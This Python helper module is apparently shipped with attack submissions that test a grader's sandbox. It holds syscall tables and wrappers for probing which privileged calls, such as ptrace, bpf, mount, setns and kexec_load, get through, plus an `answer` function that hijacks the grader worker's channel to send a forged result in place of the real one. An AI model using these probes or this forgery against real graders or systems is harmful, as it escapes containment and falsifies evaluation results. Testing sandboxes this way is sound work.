"""What hostile code finds useful. It comes with every attack, as `tools.py`, another file of the submission.

Whoever hands this in knows all that can be known: `PLACES`, which is filled in below, says where
everything is.
"""

import ctypes
import errno
import json
import os
import struct

PLACES = json.loads(r"""{}""")

libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "ptrace": (101, 117),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "tkill": (200, 130),
    "memfd_create": (319, 279),
    "memfd_secret": (447, 447),
    "io_uring_setup": (425, 425),
    "unshare": (272, 97),
    "inotify_init1": (294, 26),
    "fanotify_init": (300, 262),
    "clone": (56, 220),
    "clone3": (435, 435),
    "vfork": (58, 220),
    "fork": (57, 220),
    "setresuid": (117, 147),
    "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438),
    "pidfd_send_signal": (424, 424),
    "process_madvise": (440, 440),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "userfaultfd": (323, 282),
    "keyctl": (250, 219),
    "add_key": (248, 217),
    "shmget": (29, 194),
    "mq_open": (240, 180),
    "semget": (64, 190),
    "personality": (135, 92),
    "mount": (165, 40),
    "umount2": (166, 39),
    "open_tree": (428, 428),
    "fsopen": (430, 430),
    "chroot": (161, 51),
    "setns": (308, 268),
    "execveat": (322, 281),
    "seccomp": (317, 277),
    "openat2": (437, 437),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "rt_sigqueueinfo": (129, 138),
    "capset": (126, 91),
    "mlock": (149, 228),
    "setpriority": (141, 140),
    "landlock_create_ruleset": (444, 444),
    "prctl": (157, 167),
    "kcmp": (312, 272),
    "timer_create": (222, 107),
    "setitimer": (38, 103),
    "splice": (275, 76),
    "vmsplice": (278, 75),
    "sendfile": (40, 71),
    "sched_setscheduler": (144, 119),
    "ioprio_set": (251, 30),
    "reboot": (169, 142),
    "syslog": (103, 116),
    "swapon": (167, 224),
    "init_module": (175, 105),
    "kexec_load": (246, 104),
    "quotactl": (179, 60),
    "acct": (163, 89),
    "settimeofday": (164, 170),
    "sethostname": (170, 161),
    "sync": (162, 81),
}


def note(outcome):
    """Write down what became of an attempt, where only the instructor reads it."""
    os.write(1, f"\ntried: {str(outcome)[:300]}\n".encode())
    return outcome


def tried(action, *arguments):
    """What became of it: the name of an error, or what got through."""
    try:
        got = action(*arguments)
    except OSError as error:
        return note(errno.errorcode.get(error.errno, str(error.errno)))
    except ValueError:
        return note("ValueError")
    empty = isinstance(got, bytes) and not got  # as a file is that is hidden
    return note("nothing" if empty else f"through: {got!r}")


def called(name, *arguments):
    """The same for a bare system call."""
    number = NUMBERS[name][os.uname().machine == "aarch64"]
    result = libc.syscall(number, *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments))
    return note(errno.errorcode[ctypes.get_errno()] if result < 0 else f"through: {result}")


def content(path):
    return os.read(os.open(path, os.O_RDONLY), 4000)


def answer(header):
    """Send this in place of the worker's next answer."""
    number, worker = request()
    own = worker._channel.send

    def swallow(answer):
        worker._channel.send = own

    os.write(3, struct.pack("<IHI", len(header), 0, number) + header)
    worker._channel.send = swallow


def request():
    """The number of the question that is being answered, and the worker."""
    import gc

    from grader.sandbox.worker import Worker

    (worker,) = [thing for thing in gc.get_objects() if type(thing) is Worker]
    return worker._request, worker
